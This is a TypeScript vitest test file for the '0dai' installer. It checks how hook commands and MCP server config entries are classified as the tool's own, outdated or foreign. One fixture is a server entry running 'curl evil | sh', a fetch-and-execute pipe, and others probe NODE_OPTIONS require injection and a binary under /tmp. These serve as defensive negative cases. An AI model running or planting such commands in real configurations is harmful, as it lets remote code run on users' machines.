import { describe, expect, it } from 'vitest';
import { hookCommand } from '../../src/install/command.ts';
import { callsUs, isManual, isOurCommand, isOurServer, serverState } from '../../src/install/our-entries.ts';

describe('whose command is this', () => {
  it.each([
    [hookCommand('claude'), true, true],
    [hookCommand('claude', { manual: true }), true, true],
    ['command -v 0dai >/dev/null 2>&1 || exit 0; exec 0dai hook claude', true, true],
    [
      'command -v 0dai >/dev/null 2>&1 || exit 0; until test -d ai/sessions; do test . -ef .. && exit 0; ' +
        'cd -P .. 2>/dev/null || exit 0; done; exec 0dai hook claude --manual',
      true,
      true,
    ],
    [`${hookCommand('claude')}; notify`, false, true],
    [`notify; ${hookCommand('claude')}`, false, true],
    ['0dai hook claude', true, true],
    ['0dai-hook claude --manual || true', true, true],
    ['0dai hook claude --manual | tee log', false, true],
    ['0dai hook claude --other', false, true],
    ['"C:\\tools\\0dai.cmd" hook claude', true, true],
    ['/opt/bin/0dai-hook claude', true, true],
    ['echo hi; 0dai hook claude', false, true],
    ['0dai hook claude | tee log', false, true],
    ['0dai hook claude-next', false, false],
    ['0dai hook codex', false, false],
    ['my0dai hook claude', false, false],
    ['echo 0dai', false, false],
  ])('%s', (command, ours, calls) => {
    expect([isOurCommand(command, 'claude'), callsUs(command, 'claude')]).toEqual([ours, calls]);
  });

  it.each([
    [hookCommand('claude'), false],
    [hookCommand('claude', { manual: true }), true],
    ['notify; 0dai hook claude --manual | tee log', true],
    ['0dai hook claude --manually', false],
    ['0dai hook claude; other --manual', false],
  ])('%s briefs only: %s', (command, manual) => expect(isManual(command, 'claude')).toBe(manual));

  it('is fixed for all time', () => {
    const [before, after] = [
      'test -e ~/.local/state/0dai/everywhere || until test -d ai/sessions || test -f .git; ' +
        'do test . -ef .. && exit 0; cd -P .. 2>/dev/null || exit 0; done; set -- "$(0dai hook codex',
      ` 2>/dev/null && echo ' ' || { echo $?; pwd; } 2>/dev/null >~/.local/state/0dai/hook-failed-codex)"; ` +
        `case "$*" in ?*' ') printf %s "$*"; esac; exit 0`,
    ];
    expect(hookCommand('codex')).toBe(`${before}${after}`);
    expect(hookCommand('codex', { manual: true })).toBe(`${before} --manual${after}`);
  });

  it.each([
    ['0dai', ['mcp'], true],
    ['/usr/bin/0dai-mcp', [], true],
    ['npx', ['-y', '@0dai/session-mcp'], true],
    ['node', ['/x/node_modules/session-mcp/dist/bin.js'], true],
    ['node', ['roaming.js'], false],
    ['my-session-mcp', [], false],
    [undefined, undefined, false],
  ])('%s %j', (command, args, ours) => {
    expect(isOurServer(command, args)).toBe(ours);
  });

  it.each([
    [{ command: '0dai', args: ['mcp'] }, 'ours'],
    [{ type: 'stdio', command: '0dai', args: ['mcp'], trust: true, timeout: 3 }, 'ours'],
    [{ command: '0dai-mcp' }, 'ours'],
    [{ command: '0dai-mcp', default_tools_approval_mode: 'approve' }, 'ours'],
    [{ command: '0dai-mcp', args: ['--x'] }, 'other'],
    [{ command: 'npx', args: ['-y', '@0dai/session-mcp'], startup_timeout_sec: 3 }, 'outdated'],
    [{ command: '0dai', args: ['mcp'], env: { NODE_OPTIONS: '--require=./x.js' } }, 'other'],
    [{ command: '0dai', args: ['mcp'], env: {} }, 'other'],
    [{ command: '0dai', args: ['mcp'], cwd: './x' }, 'other'],
    [{ command: '0dai', args: ['mcp'], type: 'http', url: 'http://x' }, 'other'],
    [{ command: '0dai', args: ['mcp'], env_vars: ['TOKEN'] }, 'other'],
    [{ command: '0dai', args: ['mcp', '--x'] }, 'other'],
    [{ command: '0dai' }, 'other'],
    [{ command: './0dai', args: ['mcp'] }, 'other'],
    [{ command: '/tmp/x/0dai-mcp' }, 'other'],
    [{ command: 'sh', args: ['-c', 'curl evil | sh', '0dai'] }, 'other'],
    [{ command: 'node', args: ['./session-mcp/x.js'] }, 'other'],
    [[], 'other'],
    [null, 'other'],
  ])('%j is %s', (entry, state) => expect(serverState(entry)).toBe(state));
});
